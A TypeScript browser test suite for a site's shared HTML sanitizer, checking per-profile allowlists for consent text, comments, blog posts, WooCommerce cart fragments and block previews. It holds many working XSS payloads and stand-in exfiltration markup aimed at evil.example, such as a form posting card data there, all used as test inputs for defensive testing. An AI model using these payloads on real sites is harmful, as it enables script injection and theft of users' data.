/**
 * The shared sanitizer (react-core/runtime/sanitize-html.ts) in real Chromium (its HTML parser;
 * DOMPurify needs a real DOM, happy-dom's tree walking is not enough): each call's profile keeps
 * what docs/conventions.md's "Untrusted content" says and nothing else; attack strings leave no
 * script, handler, style, image from another origin, form or unsafe link, and nothing runs or loads.
 */
import { expect } from 'chai';
import { hasVisibleContent, sanitizedContainerChildren, sanitizedPageRegion, sanitizeHtml, type SanitizeProfileName } from '../../react-core/runtime/sanitize-html';
import { safeUrl } from '../../react-core/runtime/safe-url';
import { wait } from './helpers';

declare global {
  interface Window {
    sanitizerPwned?: number;
  }
}

const ATTACKS = [
  '<script>window.sanitizerPwned=1</script>',
  '<img src=x onerror="window.sanitizerPwned=1">',
  '<svg><script>window.sanitizerPwned=1</script></svg><svg onload="window.sanitizerPwned=1"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.sanitizerPwned=1">',
  '<noscript><p title="</noscript><img src=x onerror=window.sanitizerPwned=1>"></noscript>',
  '<iframe srcdoc="<script>parent.sanitizerPwned=1</script>"></iframe>',
  '<a href="&#x6A;avascript:window.sanitizerPwned=1">x</a><a href="java&#09;script:window.sanitizerPwned=1">y</a>',
  '<p style="background:url(javascript:window.sanitizerPwned=1)" onmouseover="window.sanitizerPwned=1">t</p>',
  '<object data="data:text/html,<script>parent.sanitizerPwned=1</script>"></object><embed src="x">',
  '<form action="javascript:window.sanitizerPwned=1"><button>go</button></form>',
  '<details open ontoggle="window.sanitizerPwned=1"><summary>s</summary></details>',
  '<base href="javascript:/"><link rel="stylesheet" href="x.css"><meta http-equiv="refresh" content="0;url=javascript:x">',
  '<template><img src=x onerror="window.sanitizerPwned=1"></template>',
  '<table><tr><td onclick="window.sanitizerPwned=1" colspan="2">c</td></tr></table>',
];

/** Markup that would make the page request something from another origin, or navigate away. */
const LOADS_AND_NAVIGATES =
  '<div id="box"><p>Thanks</p><img src="https://evil.example/pixel.png" alt="">' +
  '<p style="background:url(https://evil.example/style.png)">styled</p><style>p{background:url(https://evil.example/sheet.png)}</style>' +
  '<picture><source srcset="https://evil.example/set.png"><img srcset="https://evil.example/set2.png 1x" alt=""></picture>' +
  '<form action="https://evil.example/steal"><input name="card"><button>Continue</button></form>' +
  '<video poster="https://evil.example/poster.png"></video><table background="https://evil.example/bg.png"><tr><td>t</td></tr></table>' +
  '<svg><image href="https://evil.example/svg.png"></image></svg><link rel="stylesheet" href="https://evil.example/x.css"></div>';

function html(nodes: DocumentFragment | readonly Node[]): string {
  const box = document.createElement('div');
  box.append(...('childNodes' in nodes ? [...nodes.childNodes] : nodes));
  return box.innerHTML;
}

const consent = (markup: string): string => html(sanitizeHtml(markup, 'consent-policy'));

/** Inserts `nodes` into the page and returns the resource requests to evil.example that followed. */
async function requestsToEvilAfterInserting(nodes: DocumentFragment | readonly Node[]): Promise<string[]> {
  const box = document.createElement('div');
  document.body.append(box);
  try {
    box.append(...('childNodes' in nodes ? [...nodes.childNodes] : nodes));
    await wait(200);
    return performance.getEntriesByType('resource').map((entry) => entry.name).filter((name) => name.includes('evil.example'));
  } finally {
    box.remove();
  }
}

describe('sanitizer, every profile (Chromium)', () => {
  for (const profile of ['consent-policy', 'contact-result', 'comment', 'blog', 'cart-fragment', 'multi-view'] as SanitizeProfileName[]) {
    it(`${profile}: attack strings leave no script, handler, style, embedded content or unsafe link, and run nothing`, async () => {
      const box = document.createElement('div');
      document.body.append(box);
      try {
        for (const attack of ATTACKS) box.append(sanitizeHtml(attack, profile));
        await wait(200);
        // A comment may show a same-origin avatar (`src=x` is one), a blog post its images; the other profiles show no image.
        const images = ['comment', 'blog', 'cart-fragment', 'multi-view'].includes(profile) ? '' : 'img, ';
        // The cart's fragments keep its forms and controls (their addresses and handlers checked).
        const controls = profile === 'cart-fragment' ? '' : 'form, button, input, ';
        expect(box.querySelectorAll(`script, ${images}${controls}svg, math, iframe, object, embed, style, link, meta, base, template, details`).length).to.equal(0);
        expect(box.querySelectorAll('form[action], [formaction], [srcdoc]').length).to.equal(0);
        expect(box.querySelectorAll('[style], [onerror], [onclick], [onmouseover], [ontoggle], [onload]').length).to.equal(0);
        expect([...box.querySelectorAll('a')].every((link) => !link.hasAttribute('href'))).to.equal(true);
        expect(window.sanitizerPwned === undefined, 'nothing ran').to.equal(true);
      } finally {
        box.remove();
      }
    });

    // A blog post and the shop's cart may show images of other hosts (their own sites' CDNs).
    if (profile === 'blog' || profile === 'cart-fragment') continue;
    it(`${profile}: nothing from another origin is requested and no form survives`, async () => {
      const markup = html(sanitizeHtml(LOADS_AND_NAVIGATES, profile));
      expect(markup).to.not.contain('evil.example');
      expect(markup).to.contain('Thanks');
      expect(await requestsToEvilAfterInserting(sanitizeHtml(LOADS_AND_NAVIGATES, profile))).to.deep.equal([]);
    });
  }
});

describe('consent-policy profile: the documented allowlist', () => {
  it('keeps the allowlisted elements and their text', () => {
    const markup =
      '<h2>Cookies</h2><p>We use <strong>few</strong> <em>cookies</em>.</p><ul><li>One</li></ul><ol><li>Two</li></ol>' +
      '<h3>A</h3><h4>B</h4><table><caption>C</caption><thead><tr><th scope="col">Name</th></tr></thead><tbody><tr><td colspan="2">x</td></tr></tbody></table>';
    expect(consent(markup)).to.equal(markup);
  });

  it('drops script and style elements with their content', () => {
    expect(consent('<p>a</p><script>alert(1)</script><style>p{color:red}</style><p>b</p>')).to.equal('<p>a</p><p>b</p>');
    expect(consent('<p>x<script src="https://evil.example/x.js"></script></p>')).to.equal('<p>x</p>');
  });

  it('drops event-handler attributes, style, class and id', () => {
    expect(consent('<p onclick="alert(1)" style="color:red" class="c" id="i">t</p>')).to.equal('<p>t</p>');
    expect(consent('<a href="/privacy" onmouseover="alert(1)" target="_blank">p</a>')).to.equal('<a href="/privacy">p</a>');
  });

  it('drops img with onerror, iframes, objects, embeds, svg, forms and templates', () => {
    const markup =
      '<img src=x onerror="alert(1)"><iframe title="x" srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object>' +
      '<embed src="x"><math><mi>x</mi></math><form><input value="v"><button>b</button></form>' +
      '<template><p>t</p></template><noscript><p>n</p></noscript><p>ok</p><svg><script>alert(1)</script></svg>';
    expect(consent(markup)).to.equal('<p>ok</p>');
  });

  it('unwraps other elements, keeping their sanitized children', () => {
    expect(consent('<div class="x"><h1>Title</h1><span>a <b>b</b></span><p>c</p></div>')).to.equal('Titlea b<p>c</p>');
  });

  it('removes javascript:, data: and vbscript: links, however they are disguised', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'java&#x09;script:alert(1)',
      '&#106;avascript:alert(1)',
      'javascript&colon;alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'vbscript:msgbox(1)',
    ]) {
      expect(consent(`<a href="${href}">x</a>`), href).to.equal('<a>x</a>');
    }
  });

  it('keeps http, https, mailto and relative links', () => {
    for (const href of ['https://example.com/p', 'http://example.com', 'mailto:privacy@example.com', '/privacy', 'privacy.html', '#cookies', '?a=1']) {
      expect(consent(`<a href="${href}">x</a>`), href).to.equal(`<a href="${href}">x</a>`);
    }
  });

  it('off-site links are not relative: a network-path link is written as the absolute address it resolves to', () => {
    for (const href of ['//evil.example/x', '\\\\evil.example/x', '/\\evil.example/x']) {
      expect(consent(`<a href="${href}">x</a>`), href).to.equal(`<a href="${location.protocol}//evil.example/x">x</a>`);
    }
  });

  it('drops comments and bad table attribute values', () => {
    expect(consent('<!-- c --><table><tbody><tr><td rowspan="2&quot; onclick=&quot;x">a</td></tr></tbody></table>')).to.equal(
      '<table><tbody><tr><td>a</td></tr></tbody></table>',
    );
  });

  it('says whether anything is left to show', () => {
    expect(hasVisibleContent(sanitizeHtml('<script>x</script>  ', 'consent-policy'))).to.equal(false);
    expect(hasVisibleContent(sanitizeHtml('text', 'consent-policy'))).to.equal(true);
    expect(hasVisibleContent(sanitizeHtml('<p></p>', 'consent-policy'))).to.equal(true);
  });

  it('links are checked by the shared safe-URL check', () => {
    for (const href of ['/a:b', 'a/b:c', 'HTTPS://x', 'javascript:x', '\u0001javascript:x', 'file:///etc/passwd']) {
      const kept = consent(`<a href="${href}">x</a>`).includes('href=');
      expect(kept, href).to.equal(safeUrl(href) !== null);
    }
  });
});

describe('contact-result profile (SPEC §7: the returned fragment replaces the container)', () => {
  it('takes the children of the container with the id, as text-level markup with class and role', () => {
    const nodes = sanitizedContainerChildren(
      '<!doctype html><main><div id="other"><p>Wrong</p></div><div id="contact" class="pb-contact-result"><p role="status" class="ok" id="x" style="color:red">Thanks <a href="/next" target="_blank">next</a></p></div></main>',
      'contact',
      'contact-result',
    );
    expect(html(nodes!)).to.equal('<p role="status" class="ok">Thanks <a href="/next">next</a></p>');
  });

  it('is undefined when the answer has no such container', () => {
    expect(sanitizedContainerChildren('<p>Thanks</p>', 'contact', 'contact-result')).to.equal(undefined);
    expect(sanitizedContainerChildren('<p id="">x</p>', '', 'contact-result')).to.equal(undefined);
  });

  it('keeps no image, style, form, button or field of the answer', () => {
    const nodes = sanitizedContainerChildren(LOADS_AND_NAVIGATES, 'box', 'contact-result')!;
    const box = document.createElement('div');
    box.append(...nodes);
    expect(box.querySelectorAll('img, picture, form, input, button, select, textarea, style, [style], video, svg').length).to.equal(0);
    expect(box.textContent).to.contain('Thanks');
  });
});

describe('comment profile: the comment markup the site renders', () => {
  const COMMENT =
    '<li id="comment-7" class="comment depth-1"><article id="div-comment-7" class="comment-body">' +
    '<footer class="comment-meta"><div class="comment-author vcard"><img alt="" src="/avatars/ann.png" class="avatar" width="32" height="32">' +
    '<b class="fn"><a href="https://ann.example/" rel="external nofollow ugc" class="url">Ann</a></b> <span class="says">says:</span></div>' +
    '<div class="comment-metadata"><time datetime="2026-01-01T10:00:00Z">1 January 2026</time></div></footer>' +
    '<div class="comment-content"><p>Hello<br>world</p></div>' +
    '<div class="reply"><a rel="nofollow" class="comment-reply-link" href="?replytocom=7#respond" data-commentid="7" data-postid="1" data-replyto="Reply to Ann" aria-label="Reply to Ann">Reply</a></div>' +
    '</article></li>';

  it('keeps the rendered comment as it is (ids, classes, time, same-origin avatar, reply link data)', () => {
    expect(html(sanitizeHtml(COMMENT, 'comment'))).to.equal(COMMENT);
  });

  it('drops an avatar from another origin, styles and forms', () => {
    const markup = html(
      sanitizeHtml(
        '<li id="comment-8"><img alt="" src="https://gravatar.example/a.png" class="avatar"><img alt="" src="//evil.example/b.png">' +
          '<p style="background:url(/x.png)">Hi</p><form action="/wp-comments-post.php"><button>Post</button></form></li>',
        'comment',
      ),
    );
    expect(markup).to.equal('<li id="comment-8"><p>Hi</p></li>');
  });
});

describe('blog profile: a blog module taken from another page of the site (SPEC §7 "Ajax pagination")', () => {
  const POSTS =
    '<article id="post-3" class="post"><h2 class="entry-title"><a href="/blog/three/" rel="bookmark">Three</a></h2>' +
    '<p class="meta"><time datetime="2026-01-01">1 January 2026</time></p><figure><img src="/img/three.jpg" alt="A cove" width="640" height="360" loading="lazy">' +
    '<figcaption>The <em>cove</em></figcaption></figure><p>Text <abbr title="kilometres">km</abbr></p></article>' +
    '<nav class="pagination" aria-label="Blog pages" data-pages="9"><ul><li><span class="page-numbers current" aria-current="page">2</span></li>' +
    '<li><a class="page-numbers" href="/blog/page/3/">3</a></li></ul></nav>';

  it('keeps the posts and their pagination as they are (ids, classes, aria-current, data-pages, images of the site)', () => {
    expect(html(sanitizeHtml(POSTS, 'blog'))).to.equal(POSTS);
  });

  it('drops styles, forms, an unsafe srcset, embedded media and nested modules', () => {
    const markup = html(
      sanitizeHtml(
        '<p style="color:red">Hi</p><img src="/a.jpg" srcset="/b.jpg 1x, javascript:alert(1) 2x" alt=""><form><input></form><video src="/v.mp4"></video>' +
          '<pb-video><p>inner</p></pb-video><img src="javascript:alert(1)" alt="x">',
        'blog',
      ),
    );
    expect(markup).to.equal('<p>Hi</p><img src="/a.jpg" alt=""><p>inner</p>');
  });

  it('keeps an image\'s srcset when every candidate is a safe address, and its sizes as text', () => {
    const markup = '<img src="/a.jpg" srcset="/a-300.jpg 300w, /a-600.jpg 600w" sizes="(max-width: 600px) 100vw, 600px" alt="">';
    expect(html(sanitizeHtml(markup, 'blog'))).to.equal(markup);
    expect(html(sanitizeHtml('<img src="/a.jpg" srcset="/b.jpg 2x, data:text/html,x 3x" alt="">', 'blog'))).to.equal('<img src="/a.jpg" alt="">');
  });

  it('takes the region of a whole page: the module with the id, else main, else body; the page title comes along', () => {
    const page =
      '<!doctype html><title>Blog, page 2</title><script>window.sanitizerPwned=1</script><header><p>Site</p></header>' +
      '<main><h1>Blog</h1><pb-blog id="news"><p class="x">Posts</p></pb-blog></main>';
    const own = sanitizedPageRegion(page, ['[id="news"]'], 'blog')!;
    expect(html(own.nodes)).to.equal('<p class="x">Posts</p>');
    expect(own.title).to.equal('Blog, page 2');
    expect(sanitizedPageRegion(page, ['[id="other"]'], 'blog')).to.equal(undefined);
    expect(html(sanitizedPageRegion(page, ['[id="other"]', 'main', 'body'], 'blog')!.nodes)).to.equal('<h1>Blog</h1><p class="x">Posts</p>');
    expect(window.sanitizerPwned === undefined, 'nothing ran').to.equal(true);
  });
});

/** WooCommerce's mini cart, header link and cart form, as its templates render them. */
const CART_MARKUP =
  '<a class="cart-contents" href="/shop/cart/"><span class="cart-contents-count">2 items</span> <span class="cart-contents-total"><span class="woocommerce-Price-amount amount"><bdi>€30.00</bdi></span></span></a>' +
  '<div class="widget_shopping_cart_content"><ul class="woocommerce-mini-cart cart_list product_list_widget"><li class="woocommerce-mini-cart-item mini_cart_item">' +
  '<a href="/shop/cart/?remove_item=K1&amp;_wpnonce=N" class="remove remove_from_cart_button" aria-label="Remove Oak chair from cart" data-product_id="7" data-cart_item_key="K1" data-product_sku="OAK">×</a>' +
  '<a href="/shop/product/oak-chair/"><img src="/shop/images/oak-chair.svg" width="64" height="64" alt="" decoding="async" loading="lazy">Oak chair</a>' +
  '<dl class="variation"><dt class="variation-Colour">Colour:</dt><dd class="variation-Colour"><p>Oak</p></dd></dl>' +
  '<span class="quantity">2 × <span class="woocommerce-Price-amount amount"><bdi><del>€20.00</del> <ins>€15.00</ins></bdi></span></span></li></ul>' +
  '<p class="woocommerce-mini-cart__total total"><strong>Subtotal:</strong> <span class="woocommerce-Price-amount amount"><bdi>€30.00</bdi></span></p>' +
  '<p class="woocommerce-mini-cart__buttons buttons"><a href="/shop/cart/" class="button wc-forward">View cart</a> <a href="/shop/checkout/" class="button checkout wc-forward">Checkout</a></p></div>' +
  '<form class="woocommerce-cart-form" action="/shop/cart/" method="post"><table class="shop_table cart"><tbody><tr class="woocommerce-cart-form__cart-item cart_item">' +
  '<td class="product-quantity" data-title="Quantity"><div class="quantity"><label class="screen-reader-text" for="quantity_1">Oak chair quantity</label>' +
  '<input type="number" id="quantity_1" class="input-text qty text" name="cart[K1][qty]" value="2" aria-label="Product quantity" size="4" min="0" step="1" inputmode="numeric" autocomplete="off"></div></td>' +
  '<td colspan="6" class="actions"><input type="text" name="coupon_code" class="input-text" id="coupon_code" value="" placeholder="Coupon code"> ' +
  '<button type="submit" class="button" name="update_cart" value="Update cart" disabled="">Update cart</button>' +
  '<select name="calc_shipping_country" id="calc_shipping_country"><option value="NL" selected="">Netherlands</option></select>' +
  '<input type="hidden" name="woocommerce-cart-nonce" value="abc123"></td></tr></tbody></table></form>';

describe('cart-fragment profile: the shop\'s cart fragments (docs/shop.md "Fragments and their cache")', () => {
  const cart = (markup: string): string => html(sanitizeHtml(markup, 'cart-fragment'));

  it('keeps the mini cart, the header link and the cart form as WooCommerce renders them (classes, data-*, aria-*, fields)', () => {
    expect(cart(CART_MARKUP)).to.equal(CART_MARKUP);
  });

  it('drops frames, srcdoc, scripts, styles, handlers, formaction and javascript: or data: links, keeping the links\' text', () => {
    expect(
      cart(
        '<a class="cart-contents" href="javascript:window.sanitizerPwned=1" onclick="window.sanitizerPwned=1" style="color:red">2 items</a>' +
          '<iframe srcdoc="<script>parent.sanitizerPwned=1</script>"></iframe><iframe src="javascript:parent.sanitizerPwned=1"></iframe>' +
          '<a class="remove" href="data:text/html,<script>alert(1)</script>">×</a><a href="DATA:image/svg+xml,<svg onload=alert(1)>">i</a>' +
          '<object data="x"></object><embed src="x"><frame src="x"><script>window.sanitizerPwned=1</script><style>a{}</style>' +
          '<form action="javascript:x"><button formaction="javascript:x" type="submit">Go</button><input type="image" src="https://evil.example/i.png"></form>',
      ),
    ).to.equal('<a class="cart-contents">2 items</a><a class="remove">×</a><a>i</a><form><button type="submit">Go</button><input type="image"></form>');
  });
});

describe('multi-view profile: a builder module\'s content per screen mode (docs/multi-view-data.md "Multi-view data")', () => {
  const view = (markup: string): string => html(sanitizeHtml(markup, 'multi-view'));

  it('keeps text, inline markup, lists, links and images of this site', () => {
    const markup =
      '<h3 class="title">Wide</h3><p>Text <strong>bold</strong> <em>em</em> <a href="/more" rel="bookmark" aria-label="More">more</a></p>' +
      '<ul><li>One</li></ul><figure><img src="/a.png" alt="A" width="40" height="30"><figcaption>A</figcaption></figure>';
    expect(view(markup)).to.equal(markup);
  });

  it('drops frames, forms, fields, ids, data-*, srcset and images from another host', () => {
    expect(
      view(
        '<iframe src="javascript:parent.sanitizerPwned=1"></iframe><form action="/x"><input name="q"><button>Go</button></form>' +
          '<p id="x" data-pb-multi-view="{}">Kept</p><img src="/a.png" srcset="https://evil.example/b.png 2x" alt=""><img src="https://evil.example/c.png" alt="">' +
          '<table background="https://evil.example/t.png"><tbody><tr><td style="background:url(https://evil.example/s.png)">t</td></tr></tbody></table>',
      ),
    ).to.equal('<p>Kept</p><img src="/a.png" alt=""><table><tbody><tr><td>t</td></tr></tbody></table>');
  });
});

describe('block-preview profile: a block\'s saved markup in the block editor (docs/wordpress.md "Live preview in the editor")', () => {
  const preview = (markup: string): string => html(sanitizeHtml(markup, 'block-preview'));

  it('keeps the inline styles of block supports (colours, spacing, sizes, a picture of the site) on content and on modules, slots and a search form\'s role', () => {
    const markup =
      '<pb-tabs style="--pb-tabs-accent:#c00"><h3 class="has-text-color" style="color:#7a1f1f;font-size:2rem">Tab</h3>' +
      '<div class="wp-block-group" style="padding-top:var(--wp--preset--spacing--40);background-image:url(&quot;/wp-content/uploads/ridge.jpg&quot;)"><p>Panel</p></div></pb-tabs>' +
      '<pb-parallax><img slot="background" src="/ridge.jpg" alt=""><h2>Ridge</h2></pb-parallax><form role="search" action="/" method="get"><input type="search" name="s"></form>';
    expect(preview(markup)).to.equal(markup);
  });

  it('drops a style that runs, imports, escapes or loads from an address refused as a resource, keeping the element', () => {
    for (const style of [
      'background:url(javascript:window.sanitizerPwned=1)',
      'background:url("data:text/html,<script>parent.sanitizerPwned=1</script>")',
      'width:expression(window.sanitizerPwned=1)',
      '@import "https://evil.example/x.css"',
      'background:\\75 rl(javascript:x)',
      'background:url(vbscript:x)',
      'background:url(/a.png',
    ]) {
      expect(preview(`<p style='${style}'>t</p>`), style).to.equal('<p>t</p>');
    }
  });

  it('keeps the Video block\'s video with its checked sources and playback settings; drops scripts, handlers, frames and unsafe sources', () => {
    expect(
      preview(
        '<figure class="wp-block-video"><video controls loop muted playsinline preload="metadata" poster="/p.jpg" src="/v.mp4" onplay="window.sanitizerPwned=1"></video></figure>' +
          '<video><source src="javascript:x" type="video/mp4"><source src="/v.webm" type="video/webm"></video><iframe src="/x"></iframe><script>window.sanitizerPwned=1</script>',
      ),
    ).to.equal(
      '<figure class="wp-block-video"><video controls="" loop="" muted="" playsinline="" preload="metadata" poster="/p.jpg" src="/v.mp4"></video></figure>' +
        '<video><source type="video/mp4"><source src="/v.webm" type="video/webm"></video>',
    );
    expect(window.sanitizerPwned).to.equal(undefined);
  });

  it('attack strings leave no script, handler, unsafe style, embedded content or unsafe link, and run nothing', async () => {
    const box = document.createElement('div');
    document.body.append(box);
    try {
      for (const attack of ATTACKS) box.append(sanitizeHtml(attack, 'block-preview'));
      await wait(200);
      expect(box.querySelectorAll('script, svg, math, iframe, object, embed, style, link, meta, base, template').length).to.equal(0);
      expect(box.querySelectorAll('form[action], [formaction], [srcdoc], [style], [onerror], [onclick], [onmouseover], [ontoggle], [onload]').length).to.equal(0);
      expect([...box.querySelectorAll('a')].every((link) => !link.hasAttribute('href'))).to.equal(true);
      expect(window.sanitizerPwned === undefined, 'nothing ran').to.equal(true);
    } finally {
      box.remove();
    }
  });
});
